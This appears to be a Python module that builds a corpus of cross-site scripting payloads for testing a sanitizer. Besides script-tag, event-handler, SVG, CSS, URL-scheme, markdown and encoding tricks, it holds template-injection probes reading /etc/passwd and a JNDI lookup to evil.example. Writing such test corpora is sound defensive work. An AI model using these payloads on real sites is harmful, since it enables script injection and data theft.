"""Words that try to become a script, by the classes of trick that are known. All of them would call `hit()`."""

from collections.abc import Iterator
from itertools import islice, product

CALL = "hit(1)"

_TAGS = (
    f"<script>{CALL}</script>",
    f"<SCRIPT>{CALL}</SCRIPT>",
    f"<script/x>{CALL}</script>",
    f"<script\t>{CALL}</script\t>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<<script>{CALL}//<</script>",
    f'<script src="data:text/javascript,{CALL}"></script>',
    f"<script type=module>{CALL}</script>",
    f'<iframe src="javascript:{CALL}"></iframe>',
    f'<iframe srcdoc="&lt;script&gt;parent.{CALL}&lt;/script&gt;"></iframe>',
    f'<object data="javascript:{CALL}"></object>',
    f'<embed src="javascript:{CALL}">',
    '<base href="//evil.example/">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{CALL}">',
    '<link rel="stylesheet" href="//evil.example/a.css">',
    f'<form action="javascript:{CALL}"><button>Go</button></form>',
    f'<button formaction="javascript:{CALL}">Go</button>',
    f"<template><script>{CALL}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>"></noscript>',
    f"<textarea></textarea><script>{CALL}</script>",
    f"<title></title><script>{CALL}</script>",
    f"<style></style><script>{CALL}</script>",
    f"<plaintext><script>{CALL}</script>",
    f"<xmp></xmp><script>{CALL}</script>",
    f"<!--><script>{CALL}</script>-->",
    f"<!-- --!><img src=x onerror={CALL}> -->",
    f"<![CDATA[><script>{CALL}</script>]]>",
    f"<?xml version='1.0'?><script>{CALL}</script>",
    f"</p></li></ul></main><script>{CALL}</script>",
    f"</title></head><body onload={CALL}>",
    f"</style><script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</noscript><script>{CALL}</script>",
    f"<isindex type=image src=1 onerror={CALL}>",
    f"<x contenteditable onblur={CALL} autofocus>x</x>",
)
_CARRIERS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "a href=x",
    "marquee",
    "p",
    "q",
)
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "ONERROR", "onbeforetoggle")
_SEPARATORS = (" ", "/", "\t", "/x=y/")
_SVG = (
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><script xlink:href=data:,{CALL} /></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s></svg>",
    f'<svg><a xlink:href="javascript:{CALL}"><text x=9 y=9>x</text></a></svg>',
    f"<svg><foreignObject><iframe onload={CALL}></foreignObject></svg>",
    f'<svg><set attributeName=href to="javascript:{CALL}"></svg>',
    f"<svg><style><img src=x onerror={CALL}></style></svg>",
    f"<svg><desc><img src=x onerror={CALL}></desc></svg>",
    f"<math><mtext><mglyph><style><img src=x onerror={CALL}></style></mglyph></mtext></math>",
    f'<math href="javascript:{CALL}">x</math>',
    f"<math><annotation-xml encoding=text/html><script>{CALL}</script></annotation-xml></math>",
    f'<use href="data:image/svg+xml,<svg onload={CALL}>#x">',
)
_STYLES = (
    '<p style="background:url(//evil.example/a)">x</p>',
    f'<p style="width:expression({CALL})">x</p>',
    "<style>@import '//evil.example/a.css';</style>",
    f"<style>*{{background:url('javascript:{CALL}')}}</style>",
    f'"style="-moz-binding:url(//evil.example/x#{CALL})',
    "}body{display:none",
    "*/}html{display:none}/*",
    "</style><style>*{color:red}</style>",
    "\\3c script\\3e",
    f"<link rel=stylesheet href=data:text/css,*%7bx:expression({CALL})%7d>",
)
_TEMPLATES = (
    "{{ 7*7 }}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{% include '/etc/passwd' %}", "{% set x = 1 %}",
    "{% raw %}x{% endraw %}", "{{ site|attr('__init__') }}", "{{ x|safe }}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "[[${7*7}]]", "{{{x}}}", "%(title)s", "%s%n%x", "{0.__class__}", "{title!r}", "{{ [].__class__ }}",
    "{{ cycler.__init__ }}",
    "{% for x in y %}{% endfor %}", "{# remark #}", "${jndi:ldap://evil.example/a}", "`${hit(1)}`", "{%- debug -%}",
    "#set($x=1)", "#eval(hit(1))", "#sys.version", "$hit(1)$", "*#hit(1)", "@import hit", "/* hit */", "// hit(1)",
)  # fmt: skip
_SCHEMES = (
    "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java&Tab;script:", "java&#10;script:",
    "&#106;avascript:", "&#x6a;avascript:", "javascript&colon;", "%6aavascript:", "jav%0aascript:", "vbscript:",
    "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "blob:", "file:///", "about:", "view-source:",
    "javascript://x.example/%0a", "feed:javascript:", "livescript:", "mocha:", "ms-word:ofe|u|", "intent:", "cid:",
    "\\javascript:", "//evil.example/", "\\\\evil.example\\", "https:evil.example", "///evil.example/",
    "http://x@evil.example:", "unknown:", "ws:", "filesystem:", "jar:", "mhtml:", "chrome:", "jаvascript:",
)  # fmt: skip
_LINKS = ("[x]({})", "[x](<{}>)", "[x]: {}\n\n[x]", "<{}>", "![x]({})", "[![x]({})](a)", "[x]({} 'title')")
_MARKDOWN = (
    f'[x](https://a.example/"onmouseover="{CALL})',
    f"[x](https://a.example/'onmouseover='{CALL})",
    f'[x](https://a.example/ "title" onmouseover={CALL})',
    f'[x](<https://a.example/" onmouseover={CALL} x=">)',
    f'![" onerror={CALL} x="](/images/x.png)',
    f'![x](/images/x.png"onerror={CALL})',
    f"[<img src=x onerror={CALL}>](https://a.example)",
    f"**<b onclick={CALL}>x</b>**",
    f"`<script>{CALL}</script>`",
    f"```\n</code></pre><script>{CALL}</script>\n```",
    f"```html onload={CALL}\nx\n```",
    f'~~~"><script>{CALL}</script>\nx\n~~~',
    f"    </pre><script>{CALL}</script>",
    f'| <script>{CALL}</script> | b |\n| --- | :-: |\n| " onx=y | c |',
    f"## <script>{CALL}</script>",
    f"> <script>{CALL}</script>",
    f"x[^1]\n\n[^1]: <script>{CALL}</script>",
    f'[^"><script>{CALL}</script>]\n\n[^"><script>{CALL}</script>]: x',
    f"\\<script>{CALL}\\</script>",
    f"<https://a.example/<script>{CALL}</script>>",
    f"<a@b.example?body=<script>{CALL}</script>>",
    f'[a]: https://a.example "<script>{CALL}</script>"\n\n[a]',
    f"[x](https://a.example/{{{{{CALL}}}}})",
    f'[x](https://a.example#"><script>{CALL}</script>)',
    f"1. <script>{CALL}</script>\n2. <img src=x onerror={CALL}>",
    f"***<svg/onload={CALL}>***~~<x>~~",
    "[x[^2]](https://a.example)\n\n[^2]: A note in a link.",
    "[x][y]\n\n[y]: <javascript:hit(1)>",
    "[x\n\n](javascript:hit(1))",
    "![[x](javascript:hit(1))](javascript:hit(1))",
    "[x](javascript:hit(1)\n'x')",
    "&lt;script&gt;hit(1)&lt;/script&gt;",
    "&#60;script&#62;hit(1)&#60;/script&#62;",
    "&#x3C;script&#x3E;hit(1)&#x3C;/script&#x3E;",
    "&LT;script&GT;hit(1)&LT;/script&GT;",
    "&amp;lt;script&amp;gt;hit(1)",
    "&quot;&gt;&lt;img src=x onerror=hit(1)&gt;",
    "&#0000060script&#0000062hit(1)",
    "&bsol;u003cscript&bsol;u003ehit(1)",
)
_ENCODED = (
    "%3Cscript%3Ehit(1)%3C/script%3E", "\\u003cscript\\u003ehit(1)\\u003c/script\\u003e", "\\x3cscript\\x3ehit(1)",
    "+ADw-script+AD4-hit(1)+ADw-/script+AD4-", "＜script＞hit(1)＜/script＞", "‹script›hit(1)‹/script›",
    "<ſcript>hit(1)</ſcript>", "<ımg src=x onerror=hit(1)>", "<scrıpt>hit(1)</scrıpt>", "¼script¾hit(1)¼/script¾",
    "PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=", "<\u200bscript>hit(1)</script>", "<img src=x one\u00adrror=hit(1)>",
    "\u202e>tpircs/<)1(tih>tpircs<", "<a\u2028onclick=hit(1)>", "\ufeff<script>hit(1)</script>", "<\u0130MG SRC=X>",
    "%253Cscript%253Ehit(1)", "\\074script\\076hit(1)", "&#8238;hit(1)", "ʺ onclick=hit(1) x=ʺ", "＂ onclick=hit(1)",
    "\u2066<script>hit(1)</script>\u2069", "<script\u00a0>hit(1)</script>", "<img\u3000src=x\u3000onerror=hit(1)>",
)  # fmt: skip
_BREAKS = ('"', "'", "`", '">', "'>", "-->", "]]>", "*/", "//", "\\", "\n", ";", '"/>', "</a>", '" ')
_AFTER_BREAKS = (
    f"<script>{CALL}</script>",
    f" onfocus={CALL} autofocus x=",
    f"<img src=x onerror={CALL}>",
    f";{CALL};",
)


def _payloads(step: int) -> Iterator[str]:
    """Every trick that is written out, and of what can be put together in many ways every so many."""
    yield from _TAGS
    for carrier, event, separator in islice(product(_CARRIERS, _EVENTS, _SEPARATORS), None, None, step):
        yield f"<{carrier}{separator}{event}={CALL}>"
    yield from (*_SVG, *_STYLES, *_TEMPLATES, *_MARKDOWN, *_ENCODED)
    schemes = islice(product(_SCHEMES, _LINKS), None, None, step)
    yield from (link.format(f"{scheme}{CALL}") for scheme, link in schemes)
    yield from (f"x{end}{rest}" for end, rest in islice(product(_BREAKS, _AFTER_BREAKS), None, None, step))


PAYLOADS = tuple(dict.fromkeys(_payloads(1)))
# For whole sites and messages in every run. Five goes into none of the lists above but that of carriers and that of
# breaks, the first in their products: so each of what is put together is there.
FEWER = tuple(dict.fromkeys(_payloads(5)))
